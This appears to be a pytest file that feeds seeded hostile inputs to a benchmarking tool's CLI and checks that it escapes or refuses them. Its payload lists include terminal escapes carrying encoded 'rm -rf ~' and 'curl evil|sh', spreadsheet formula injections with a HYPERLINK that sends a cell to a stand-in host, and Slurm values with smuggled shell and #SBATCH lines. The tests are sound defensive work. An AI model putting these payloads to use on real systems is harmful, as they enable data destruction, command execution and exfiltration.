"""Hostile input by class, drawn: each class of hostile text or layout (control characters, formula
prefixes, markup metacharacters, cluster values, colliding names and ratios, copied run folders,
overlapping results and cache) is drawn from a seeded generator, ``DRAWS`` draws per class, so the
class is exercised and not only the inputs other tests pin. Each draw's input is in its test id (as
``ascii``) and in every assertion message: a failure names the input that reproduces it
(``random.Random(f"{SEED}-{class}-{draw}")``). Fake run folders only, no training."""
from __future__ import annotations

import csv
import io
import json
import os
import random
import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from .test_views import fake_run

SEED = 20260511
DRAWS = 8
DS = "synthetic-cardiac"

C0 = [chr(c) for c in range(0x20) if c not in (0x09, 0x0A)]          # tab and newline are text
C1 = [chr(c) for c in range(0x80, 0xA0)]
ESCAPES = ["\x1b]52;c;cm0gLXJmIH4=\x07", "\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\", "\x1b[2J", "\x1b[1;31m", "\x1b[H",
           "\x1b]0;pwned\x07", "\x9b2J", "\x9d0;t\x9c", "\x1bP+q\x1b\\", "\x1b[6n", "\x1bc"]
BIDI = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e",
        "\u200f", "\u061c"]
CONTROLS = C0 + ["\x7f"] + C1 + ESCAPES
# what a terminal or a viewer acts on: C0 but tab and newline, DEL, C1, bidirectional controls
UNPRINTABLE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
RAW_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
FORMULAS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOADS = ["cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/?a="&A1,"ok")', "1+1", "SUM(A1:A9)", "2", "DDE(\"x\")",
            "x"]
MARKUP = list("$|`*_\\{}<>&#%~^") + ["\n", "$x^2$", "\\frac{", "<b>", "**", "{}", "\\\\", "\\|", "|\\"]


def _rng(cls: str, draw: int) -> random.Random:
    return random.Random(f"{SEED}-{cls}-{draw}")


def _draws(cls: str, make: Callable[[random.Random], Any]) -> list[Any]:
    """``DRAWS`` parameters of ``make(rng)``, each with its input (as ascii, cut) in its id."""
    out = []
    for i in range(DRAWS):
        value = make(_rng(cls, i))
        out.append(pytest.param(value, id=f"{cls}{i}-{ascii(value)[:60]}"))
    return out


def _hostile(rng: random.Random, pool: list[str], most: int = 3, fillers: tuple[str, ...] = ("x", "1", "", " ")) -> str:
    return rng.choice(["", "a", "MT"]) + "".join(rng.choice(pool) + rng.choice(fillers)
                                                  for _ in range(rng.randint(1, most)))


def _bench(*args: str) -> tuple[int, str, str]:
    from sslbench.cli import main

    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.stdout, result.stderr


def _unprintable(text: str) -> list[str]:
    return sorted(set(UNPRINTABLE.findall(text)))


def _set_record(folder: Path, **fields: Any) -> None:
    record = json.loads((folder / "run.json").read_text())
    record.update(fields)
    (folder / "run.json").write_text(json.dumps(record))


def _rename(folder: Path, case: str | None = None, cls: str | None = None) -> None:
    """Give a fake run's case ids (``case`` + index) and its class RV (``cls``) the drawn names, in
    run.json and both metrics files."""
    def renamed(mapping: dict[str, Any]) -> dict[str, Any]:
        return {cls if (cls is not None and k == "RV") else k: v for k, v in mapping.items()}

    for name in ("metrics.json", "metrics-last.json"):
        data = json.loads((folder / name).read_text())
        for i, entry in enumerate(data["metric_per_case"]):
            if case is not None:
                entry["case"] = f"{case}{i}"
            entry["metrics"] = renamed(entry["metrics"])
        data["mean"] = renamed(data["mean"])
        (folder / name).write_text(json.dumps(data))
    record = json.loads((folder / "run.json").read_text())
    record["per_class"] = renamed(record["per_class"])
    record["last"]["per_class"] = renamed(record["last"]["per_class"])
    (folder / "run.json").write_text(json.dumps(record))


# ================================================================== 1. control characters
def _status_draw(rng: random.Random) -> dict[str, str]:
    pool = CONTROLS + BIDI + ["\n", "\r\n", "\t"]
    return {"error": _hostile(rng, pool), "host": _hostile(rng, pool), "lock_host": _hostile(rng, pool),
            "since": _hostile(rng, pool), "override": _hostile(rng, pool), "variant": _hostile(rng, CONTROLS),
            "tag": "w" + _hostile(rng, BIDI, fillers=("x", "1", "gnp.exe"))}


@pytest.mark.parametrize("d", _draws("status", _status_draw))
def test_status_prints_every_drawn_control_character_escaped(tmp_path: Path, d: dict[str, str]) -> None:
    root = tmp_path / "r"
    fake_run(root, DS, "mt", 5, 0, 60, tag=d["tag"], paper_name="MT")            # bidi tag: a valid record
    damaged = fake_run(root, DS, "mt", 5, 1, 60, tag="t", paper_name="MT")
    _set_record(damaged, variant=d["variant"])                                       # controls: refused
    failed = root / DS / "quick" / "unet-l" / "ratio-5" / "seed-0"
    failed.mkdir(parents=True)
    (failed / "config.json").write_text(json.dumps({"hash": "x", "spec": {"method": "unet-l", "overrides": [d["override"]]}}))
    (failed / "failed.json").write_text(json.dumps({"error": d["error"], "host": d["host"]}))
    locked = failed.parent / "seed-1"
    locked.mkdir()
    (locked / "config.json").write_text(json.dumps({"hash": "x"}))
    (locked / ".lock").write_text(json.dumps({"host": d["lock_host"], "pid": 1, "since": d["since"]}))
    code, out, err = _bench("status", "--results", str(root))
    assert code == 0, (ascii(d), err)
    assert not _unprintable(out) and not _unprintable(err), (ascii(d), ascii(out), ascii(err))
    lines = out.splitlines()
    assert len(lines) == 6, (ascii(d), out)            # header, four runs (one damaged), summary: one line each
    assert "\\u" in out, (ascii(d), out)               # the tag's bidi control, shown as an escape


def _table_draw(rng: random.Random) -> dict[str, str]:
    hostile_class = rng.random() < 0.5
    return {"tag": "w" + _hostile(rng, BIDI), "paper": "MT" + rng.choice(BIDI),
            "cls": "R" + _hostile(rng, CONTROLS if hostile_class else BIDI + ["\t", "\n"]),
            "case": "c" + _hostile(rng, CONTROLS + BIDI)}


@pytest.mark.parametrize("d", _draws("table", _table_draw))
def test_tables_and_exports_never_carry_a_drawn_control_character(tmp_path: Path, d: dict[str, str]) -> None:
    """A record's text with a C0/C1 control is refused (the run is skipped, named); bidirectional
    controls are text, shown escaped in everything printed and in markdown and LaTeX files. No file
    the views write holds a raw C0/C1 control character."""
    root = tmp_path / "r"
    for seed in (0, 1):
        folder = fake_run(root, DS, "mt", 5, seed, 60, tag=d["tag"], paper_name=d["paper"])
        _rename(folder, cls=d["cls"])
    other = fake_run(root, DS, "unet-l", 5, 0, 50, paper_name="UNet-L")
    _rename(other, case=d["case"])                                                    # case ids: metrics.json
    fake_run(root, DS, "unet-l", 5, 1, 51, paper_name="UNet-L")                     # a clean run: the export is not empty
    refused = bool(RAW_CONTROL.search(d["cls"]))
    files = {"md": tmp_path / "t.md", "tex": tmp_path / "t.tex", "csv": tmp_path / "t.csv", "export": tmp_path / "e.csv"}
    runs = [("table", "--per-class"), ("table", "--per-class", "--format", "latex", "-o", str(files["tex"])),
            ("table", "--per-class", "-o", str(files["md"])),
            ("table", "--per-class", "--format", "csv", "-o", str(files["csv"])), ("export", "-o", str(files["export"]))]
    for args in runs:
        code, out, err = _bench(*args, "--results", str(root))
        assert code == 0, (ascii(d), args, err)
        assert not _unprintable(out) and not _unprintable(err), (ascii(d), args, ascii(out), ascii(err))
        if refused and args[0] == "table":
            assert "control character" in err, (ascii(d), args, err)             # the skipped run, named
    for kind, path in files.items():
        text = path.read_text(encoding="utf-8")
        assert not RAW_CONTROL.search(text), (ascii(d), kind, ascii(text))
        if kind in ("md", "tex"):
            assert not _unprintable(text), (ascii(d), kind, ascii(text))
    shown = files["md"].read_text()
    assert refused or "\\u" in shown, (ascii(d), shown)                        # the tag's bidi, escaped


def _class_draw(rng: random.Random) -> dict[str, Any]:
    return {"bad": ["bg", "R" + _hostile(rng, CONTROLS), "c"],
            "good": ["bg", "R" + _hostile(rng, BIDI + ["\t", "\n", "\r\n"[1:]]), "L" + rng.choice(BIDI)]}


@pytest.mark.parametrize("d", _draws("datasets", _class_draw))
def test_datasets_lists_drawn_class_names_printable(tmp_path: Path, d: dict[str, Any]) -> None:
    cache = tmp_path / "cache"
    for name, classes in (("good", d["good"]), ("bad", d["bad"])):
        (cache / name).mkdir(parents=True)
        (cache / name / "meta.json").write_text(json.dumps({"format": 2, "name": name, "classes": classes, "cases": []}))
    code, out, err = _bench("datasets", "--cache", str(cache))
    assert code == 0, (ascii(d), err)
    assert not _unprintable(out) and not _unprintable(err), (ascii(d), ascii(out))
    lines = out.splitlines()
    assert all(line.startswith("|") for line in lines), (ascii(d), out)             # a class's newline: no new row
    bad = next(line for line in lines if line.startswith("| bad "))
    good = next(line for line in lines if line.startswith("| good "))
    assert "damaged" in bad and "control character" in bad, (ascii(d), bad)
    assert "| yes " in good and "\\u" in good, (ascii(d), good)


def _text_draw(rng: random.Random) -> dict[str, str]:
    return {"bad": _hostile(rng, CONTROLS), "good": _hostile(rng, BIDI + ["\t", "\n"])}


@pytest.mark.parametrize("d", _draws("text", _text_draw))
def test_record_text_refuses_every_drawn_control_character(d: dict[str, str]) -> None:
    from sslbench.base.errors import BenchError
    from sslbench.base.fields import FieldError, text
    from sslbench.base.printable import one_line, printable
    from sslbench.base.records import check_metrics
    from sslbench.run.specs import expand

    with pytest.raises(FieldError, match="control character"):
        text(d["bad"], "paper_name")
    assert text(d["good"], "error") == d["good"]                                     # tab, newline, bidi: text
    for shown in (printable(d["bad"]), printable(d["good"]), one_line(d["bad"]), one_line(d["good"])):
        assert not _unprintable(shown), (ascii(d), ascii(shown))
    assert "\n" not in one_line(d["good"]) and "\t" not in one_line(d["good"]), ascii(d)
    with pytest.raises(BenchError, match="control characters"):
        expand(["mt"], [DS], [5], [0], "quick", tag=f"w{d['bad']}")
    metrics = {"metric_per_case": [{"case": "c", "metrics": {d["bad"]: {"dice": 0.5, "assd": 1.0, "hd95": 1.0}}}]}
    with pytest.raises(FieldError, match="control character"):
        check_metrics(metrics)


# ================================================================== 2. formula prefixes
def _formula_draw(rng: random.Random) -> dict[str, str]:
    def start(pool: list[str]) -> str:
        return "".join(rng.choice(pool) for _ in range(rng.randint(1, 2))) + rng.choice(PAYLOADS)

    no_controls = ["=", "+", "-", "@"]                  # a tag or a row name refuses tab and CR (controls)
    return {"tag": start(no_controls), "paper": start(no_controls), "case": start(["=", "+", "-", "@", "\t"]),
            "cls": start(["=", "+", "-", "@", "\t"])}


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _risky(cell: str) -> bool:
    """A cell a spreadsheet would run: a formula start, unless it is a plain number (-7.6, -inf)."""
    if re.fullmatch(r"[-+]?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?|-inf|-nan", cell, re.IGNORECASE):
        return False
    return cell.startswith(tuple(FORMULAS))


@pytest.mark.parametrize("d", _draws("formula", _formula_draw))
def test_no_csv_cell_starts_a_drawn_formula(tmp_path: Path, d: dict[str, str]) -> None:
    root = tmp_path / "r"
    for seed in (0, 1):
        folder = fake_run(root, DS, "mt", 5, seed, 60, tag=d["tag"], paper_name=d["paper"])
        _rename(folder, case=d["case"], cls=d["cls"])
        fake_run(root, DS, "unet-l", 5, seed, 50 + seed, paper_name="UNet-L")
    cells: list[str] = []
    out = tmp_path / "export.csv"
    code, _, err = _bench("export", "--results", str(root), "-o", str(out))
    assert code == 0, (ascii(d), err)
    cells += _cells(out.read_text())
    for args in (("--format", "csv"), ("--format", "csv", "--per-class"), ("--table", "1", "--format", "csv"),
                 ("--cost", "--format", "csv"), ("--keys", "--format", "csv"),
                 ("--format", "csv", "--per-class", "-o", str(tmp_path / "t.csv"))):
        code, text, err = _bench("table", "--results", str(root), *args)
        assert code == 0, (ascii(d), args, err)
        cells += _cells(text if "-o" not in args else (tmp_path / "t.csv").read_text())
    risky = [c for c in cells if _risky(c)]
    assert not risky, (ascii(d), risky[:5])
    quoted = {c for c in cells if c.startswith("'")}
    assert "'" + d["tag"] in quoted and f"'{d['case']}0" in quoted, (ascii(d), sorted(quoted)[:10])
    assert any(c.startswith("'" + d["paper"]) for c in quoted), (ascii(d), sorted(quoted)[:10])
    assert any(c.startswith("'" + d["cls"]) or c == "'" + d["cls"] for c in quoted), (ascii(d), sorted(quoted)[:10])


@pytest.mark.parametrize("d", _draws("cell", lambda rng: [rng.choice(FORMULAS) + rng.choice(PAYLOADS)
                                                          for _ in range(4)]))
def test_safe_frame_quotes_every_drawn_text_cell_and_no_number(d: list[str]) -> None:
    import pandas as pd

    from sslbench.base.spreadsheet import to_safe_csv

    frame = pd.DataFrame({d[0]: d, "value": [-7.6, -1.0, 2.0, -0.5], "mixed": [d[1], -3.0, d[2], 1]})
    text = to_safe_csv(frame)
    assert len(list(csv.reader(io.StringIO(text)))) == 5, (ascii(d), ascii(text))       # a CR never starts a row
    cells = _cells(text)
    assert not [c for c in cells if _risky(c)], (ascii(d), cells)
    assert "-7.6" in cells and "-3.0" in cells, (ascii(d), cells)                  # numbers stay numbers


# ================================================================== 3. markup metacharacters
def _markup_draw(rng: random.Random) -> dict[str, str]:
    tag = _hostile(rng, MARKUP, 4, ("x", "1", "", " ", "a b"))
    return {"tag": tag if tag.strip() and tag.strip() != "(none)" else tag + "x",
            "cls": "C" + _hostile(rng, MARKUP, 4), "paper": "M" + _hostile(rng, MARKUP, 2)}


def _pipes(line: str) -> int:
    """Column delimiters of a GFM table row: a ``|`` not preceded by a backslash (cmark-gfm and
    markdown-it both read ``\\|`` as a pipe in the cell, whatever precedes the backslash)."""
    return len(re.findall(r"(?<!\\)\|", line))


def _latex_escaped(name: str) -> str:
    """A name as the LaTeX tables must show it (independent of the implementation's own tables)."""
    rules = {"&": r"\&", "%": r"\%", "$": r"\$", "#": r"\#", "_": r"\_", "{": r"\{", "}": r"\}",
             "~": r"\textasciitilde{}", "^": r"\^{}", "\\": r"\textbackslash{}", "|": r"\textbar{}",
             "<": r"\textless{}", ">": r"\textgreater{}", "`": r"\textasciigrave{}"}
    return "".join(rules.get(ch, ch) for ch in name.replace("\r\n", " ").replace("\n", " ").replace("\t", " "))


def _check_markdown(text: str, d: dict[str, str]) -> None:
    blocks = [b for b in text.split("\n\n") if b.startswith("|")]
    assert blocks, (ascii(d), text)
    for block in blocks:
        lines = block.splitlines()
        assert all(line.startswith("|") and line.endswith("|") for line in lines), (ascii(d), block)
        assert len({_pipes(line) for line in lines}) == 1, (ascii(d), block)


def _check_latex(text: str, d: dict[str, str], names: tuple[str, ...]) -> None:
    body = text.replace(r"\{", "").replace(r"\}", "")
    depth = 0
    for ch in body:
        depth += {"{": 1, "}": -1}.get(ch, 0)
        assert depth >= 0, (ascii(d), text)
    assert depth == 0, (ascii(d), text)
    rows = [line for line in text.splitlines() if line.rstrip().endswith("\\\\")]
    assert len({len(re.findall(r"(?<!\\)&", row)) for row in rows}) == 1, (ascii(d), text)
    for name in names:
        assert _latex_escaped(name) in text, (ascii(d), ascii(name), text)
    # nothing of a name is left to TeX: no $, #, ^, ~, % or a lone backslash outside the escapes
    plain = re.sub(r"\\(textbackslash|textasciitilde|textbar|textless|textgreater|textasciigrave|\^)\{\}", "", text)
    plain = re.sub(r"\\[&%$#_{}]", "", plain).replace(r"$\pm$", "").replace(r"$^\dagger$", "").replace(r"$\Delta$", "")
    assert not re.search(r"[$#^~%]", plain), (ascii(d), text)


@pytest.mark.parametrize("d", _draws("markup", _markup_draw))
def test_drawn_markup_in_names_never_breaks_a_table_or_a_figure(tmp_path: Path, d: dict[str, str]) -> None:
    from sslbench.report.tables import paper_table, tables

    root = tmp_path / "r"
    for seed in (0, 1):
        folder = fake_run(root, DS, "mt", 5, seed, 60 + seed, tag=d["tag"], paper_name=d["paper"])
        _rename(folder, cls=d["cls"])
        fake_run(root, DS, "unet-l", 5, seed, 50 + seed, paper_name="UNet-L")
    for text in (tables(root), tables(root, per_class=True), paper_table(root, 1, dataset=DS)):
        _check_markdown(text, d)
    _check_latex(tables(root, "latex"), d, (d["tag"], d["paper"]))
    _check_latex(tables(root, "latex", per_class=True), d, (d["tag"], d["cls"]))
    _check_latex(paper_table(root, 1, "latex", dataset=DS), d, ())
    code, out, err = _bench("plot", "ratio", "--results", str(root), "-o", str(tmp_path / "fig"))
    assert code == 0, (ascii(d), err)
    assert list(tmp_path.glob("fig*.png")) or list((tmp_path / "fig").glob("*.png")), (ascii(d), out)


# ================================================================== 4. cluster values
def _slurm_draw(rng: random.Random) -> dict[str, str]:
    word = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789-_.") for _ in range(rng.randint(1, 10)))
    bad = rng.choice(CONTROLS + ["\n", "\t", "\r\n", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\n#SBATCH --x=y",
                                 "\nrm -rf ~\n"])
    at = rng.randint(0, len(word))
    return {"good": "p" + word, "bad": word[:at] + bad + word[at:]}


@pytest.mark.parametrize("d", _draws("slurm", _slurm_draw))
def test_drawn_cluster_values_with_a_control_character_are_refused(tmp_path: Path, d: dict[str, str]) -> None:
    from sslbench.base.errors import BenchError
    from sslbench.run.slurm import SlurmSettings, check_script_values, load_settings, script_safe

    bad, good = d["bad"], d["good"]
    for key in ("partition", "account", "qos"):
        with pytest.raises(BenchError, match="control character") as info:
            load_settings(None, **{key: bad})
        assert f"--{key}" in str(info.value), (ascii(d), str(info.value))
        with pytest.raises(BenchError, match="control character"):
            check_script_values(SlurmSettings(**{key: bad}), tmp_path / "r")
        assert getattr(load_settings(None, **{key: good}), key) == good, ascii(d)
    for item in (f"constraint={bad}", f"x{bad}y=a100", f"mail-type=END{bad}"):
        with pytest.raises(BenchError, match="control character"):
            load_settings(None, sbatch=[item])
    with pytest.raises(BenchError, match="control character"):
        check_script_values(SlurmSettings(sbatch={"constraint": bad}), tmp_path / "r")
    with pytest.raises(BenchError, match="control character"):
        script_safe(bad, "--partition")
    assert script_safe(good, "--partition") == good
    assert load_settings(None, sbatch=[f"constraint={good}"]).sbatch == {"constraint": good}
    # the executor config file: TOML escapes write the same characters
    tab_only = not re.search(r"[\x00-\x08\x0a-\x1f\x7f-\x9f\u2028\u2029]", bad)
    for body in (f"partition = {json.dumps(bad)}", f"account = {json.dumps(bad)}",
                 f"setup = [{json.dumps('module load ' + bad)}]", f"[slurm.sbatch]\nconstraint = {json.dumps(bad)}"):
        path = tmp_path / "slurm.toml"
        path.write_text("[slurm]\n" + body + "\n", encoding="utf-8")
        if body.startswith("setup") and tab_only:
            assert load_settings(path).setup == ("module load " + bad,), ascii(d)   # a tab is shell text
            continue
        with pytest.raises(BenchError, match="control character"):
            load_settings(path)


# ================================================================== 5. colliding names and ratios
SAFE = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._=+-"
DROPPED = [" ", "  ", "/", "\\", ":", ";", ",", "!", "?", "*", "(", ")", "[", "]", "'", '"', "|", "\u00e9", "\u00df",
           "\u6f22", "\u2026", "\u202e", "~", "#", "%", "&", "\t", "\n", "-", "--", "\u00a0", "\uff1d"]


def _slug_draw(rng: random.Random) -> list[str]:
    base = "".join(rng.choice(SAFE) for _ in range(rng.randint(1, 6))).strip("-") or "a"
    out = [base]
    for _ in range(10):
        at = rng.randint(0, len(base))
        out.append(base[:at] + rng.choice(DROPPED) + base[at:])
        out.append(rng.choice(DROPPED) + base + rng.choice(DROPPED))
    return out


@pytest.mark.parametrize("tags", _draws("slug", _slug_draw))
def test_drawn_tags_that_slug_alike_get_distinct_folders(tmp_path: Path, tags: list[str]) -> None:
    from sslbench.base.errors import BenchError
    from sslbench.run.specs import RunSpec, slug

    folders: dict[Path, str] = {}
    for tag in dict.fromkeys(tags):
        try:
            s = slug(tag)
        except BenchError:
            assert not tag.strip() or re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", tag), ascii(tag)
            continue
        assert "/" not in s and "\\" not in s and not re.search(r"\s", s), (ascii(tag), s)
        folder = RunSpec(DS, "mt", 5.0, 0, tag=tag).files(tmp_path).folder
        assert folder not in folders, (ascii(tag), ascii(folders.get(folder)), str(folder))
        folders[folder] = tag
    assert len(folders) >= len(set(tags)) // 2, ascii(tags)


def _ratio_draw(rng: random.Random) -> list[tuple[float, float]]:
    pairs = []
    for _ in range(6):
        x = rng.uniform(0.001, 100)
        six = float(f"{x:.6g}")
        pairs.append((six, float(f"{x:.7g}")))                                       # round alike at 6 digits
        pairs.append((six, six * (1 + rng.choice([1e-7, 1e-9, 1e-12, 2.2e-16]))))
        pairs.append((six, float.fromhex(six.hex()) + rng.choice([-1, 1]) * 1e-13))
        r = round(rng.uniform(0.01, 100), rng.randint(0, 4))
        pairs.append((r, r + rng.choice([1e-6, 5e-7, 1e-5])))
    return [(a, b) for a, b in pairs if 0 < a <= 100 and 0 < b <= 100 and a != b]


@pytest.mark.parametrize("pairs", _draws("ratio", _ratio_draw))
def test_drawn_ratios_that_round_alike_never_share_a_folder(tmp_path: Path, pairs: list[tuple[float, float]]) -> None:
    from sslbench.base.errors import BenchError
    from sslbench.run.specs import check_ratio, expand

    for a, b in pairs:
        try:
            specs = expand(["mt"], [DS], [a, b], [0], "quick")
        except BenchError as exc:
            assert "significant digits" in str(exc), (a, b, str(exc))
            assert any(float(f"{v:g}") != v for v in (a, b)), (a, b, str(exc))
            continue
        folders = {s.files(tmp_path).folder for s in specs}
        assert len(folders) == 2, (a, b, sorted(map(str, folders)))
        for value in (a, b):                                  # the folder names the ratio exactly
            assert float(f"{check_ratio(value):g}") == value, (a, b)


# ================================================================== 6. copied run folders
PARTS = ["archive", "2026-11", "backup", "old copy", "x", "copies", DS, "quick", "seed-0", ".snapshot"]


def _copy_draw(rng: random.Random) -> dict[str, Any]:
    runs = rng.sample([(m, r, s) for m in ("mt", "unet-l") for r in (5, 10) for s in (0, 1, 2)], rng.randint(2, 4))
    copies = []
    for _ in range(rng.randint(1, 3)):
        run = rng.choice(runs)
        under = [rng.choice(PARTS) for _ in range(rng.randint(1, 3))]
        copies.append((run, under, rng.random() < 0.5))      # whole tree below the sub-path, or the seed folder
    return {"runs": runs, "copies": copies}


@pytest.mark.parametrize("d", _draws("copies", _copy_draw))
def test_drawn_copies_of_run_folders_are_counted_once_and_named(tmp_path: Path, d: dict[str, Any]) -> None:
    root = tmp_path / "r"
    folders = {}
    for method, ratio, seed in d["runs"]:
        folder = fake_run(root, DS, method, ratio, seed, 50 + 10 * seed + ratio, paper_name=method.upper())
        _set_record(folder, id=folder.relative_to(root).as_posix())                  # as a real run records it
        folders[(method, ratio, seed)] = folder
    made = []
    for i, (run, under, whole) in enumerate(d["copies"]):
        source = folders[tuple(run)]
        target = root.joinpath(*under, f"c{i}", *(source.relative_to(root).parts if whole else (source.name,)))
        shutil.copytree(source, target)
        made.append(target)
    code, out, err = _bench("table", "--format", "csv", "--results", str(root))
    assert code == 0, (d, err)
    rows = list(csv.DictReader(io.StringIO(out)))
    counted = sum(int(row[k]) for row in rows for k in row if k.endswith("DSC n") and row[k])
    assert counted == len(d["runs"]), (d, out)
    assert err.count("counted once") == 1, (d, err)
    for target in made:
        assert str(target) in err, (d, str(target), err)
    code, out, err = _bench("status", "--results", str(root))
    assert code == 0, (d, err)
    lines = out.splitlines()
    assert len([line for line in lines if " done " in line]) == len(d["runs"]), (d, out)
    named = [line for line in lines if "counted once" in line or "copy" in line.lower()]
    assert len(named) == 1, (d, out)
    for target in made:
        assert target.relative_to(root).as_posix() in named[0] or str(target) in named[0], (d, str(target), out)


# ================================================================== 7. overlapping results and cache
WORDS = ["results", "cache", "data", "runs", "a", "cache2", "results-cache", "x y", "sub"]


def _overlap_draw(rng: random.Random) -> dict[str, Any]:
    return {"base": [rng.choice(WORDS) for _ in range(rng.randint(0, 2))],
            "depth": rng.randint(1, 4), "inner": [rng.choice(WORDS) for _ in range(4)],
            "spell": rng.choice(["", "/.", "/./", "/../{last}"]), "exists": rng.random() < 0.5,
            "siblings": rng.sample(WORDS, 2)}


@pytest.mark.parametrize("d", _draws("overlap", _overlap_draw))
def test_drawn_overlaps_of_results_and_cache_are_refused(tmp_path: Path, d: dict[str, Any]) -> None:
    from sslbench.base.errors import BenchError
    from sslbench.cache.prepare import check_separate

    base = tmp_path.joinpath("w", *d["base"])
    outer = base / "outer"
    inner = outer.joinpath(*d["inner"][: d["depth"]])
    (inner if d["exists"] else outer).mkdir(parents=True)
    spelled = str(outer) + d["spell"].format(last=outer.name)
    links = tmp_path / "links"
    links.mkdir()
    (links / "to-inner").symlink_to(inner, target_is_directory=True)
    (links / "to-outer").symlink_to(outer, target_is_directory=True)
    (links / "to-link").symlink_to(links / "to-outer", target_is_directory=True)
    overlapping = [(outer, outer), (Path(spelled), outer), (outer, Path(spelled)),     # one folder
                   (inner, outer), (outer, inner),                                       # one inside the other
                   (links / "to-inner", outer), (outer, links / "to-inner"),             # through a link
                   (links / "to-outer", outer), (links / "to-link", inner), (inner, links / "to-link"),
                   (links / "to-outer" / "new" / "r", outer)]
    for results, cache in overlapping:
        with pytest.raises(BenchError) as info:
            check_separate(results, cache)
        message = str(info.value)
        assert "\n" not in message and "--results" in message and "separate" in message, (d, str(results), str(cache))
    a, b = d["siblings"]
    disjoint = [(base / a / "r", base / b / "c"), (base / "cache", base / "cache2"), (base / "cache2", base / "cache"),
                (outer.parent / (outer.name + "-results"), outer), (outer, outer.parent / (outer.name + "x")),
                (links / "to-outer" / ".." / "elsewhere", links / "to-inner" / ".." / ".." / "nope")]
    for results, cache in disjoint:
        if Path(os.path.realpath(results)) == Path(os.path.realpath(cache)):
            continue                                            # the two drawn names are the same word
        check_separate(results, cache)                          # accepted: neither holds the other
    code, _, err = _bench("run", "--methods", "unet-l", "--ratios", "5", "--quiet", "--no-table",
                          "--results", str(links / "to-outer" / "new"), "--cache", str(outer))
    errors = [line for line in err.splitlines() if line.startswith("error:")]
    assert code == 2 and len(errors) == 1 and "separate" in errors[0], (d, err)
    assert not (outer / "new").exists() and not (outer / DS).exists(), d                # nothing written
